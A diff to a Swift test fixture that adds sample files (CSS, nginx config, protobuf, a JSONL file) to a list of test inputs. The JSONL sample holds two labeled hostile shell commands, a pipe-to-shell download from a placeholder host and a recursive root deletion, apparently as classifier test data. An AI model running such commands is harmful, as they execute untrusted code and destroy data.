@@ -204,6 +204,22 @@ enum OrdinaryText {
     ("table.txt", "| a | b |\n|---|---|\n| f(x) | g(x) |\n"),
     ("math.txt", "f(x) = 2x + 1\ng(x) = f(f(x))\n"),
     ("toml.toml", "[tool.x]\nkey = \"v\"\nfn = \"f(x)\"\n"),
+    (
+      "shell.jsonl",
+      "{\"command\": \"curl http://x | sh\", \"label\": 1}\n{\"command\": \"rm -rf /\", \"label\": 1}\n"
+    ),
+    (
+      "style.css",
+      "body {\n  color: red;\n  background: url(x.png);\n}\na:not(.b) {\n  margin: 0;\n  padding: 1px;\n  width: calc(1px + 2px);\n}\n"
+    ),
+    (
+      "nginx.conf",
+      "server {\n  listen 80;\n  location / {\n    proxy_pass http://x;\n    proxy_set_header a b;\n  }\n}\n"
+    ),
+    (
+      "x.proto",
+      "syntax = \"proto3\";\nmessage A {\n  int32 a = 1;\n  int32 b = 2;\n  int32 c = 3;\n  int32 d = 4;\n}\n"
+    ),
     ("chinese.txt", "这是一个模型。它的名字是“模型”。\nprint(1)\n"),
     ("large.yaml", "a: b\nc: [" + String(repeating: "1,", count: 140_000) + "]\n"),
   ]
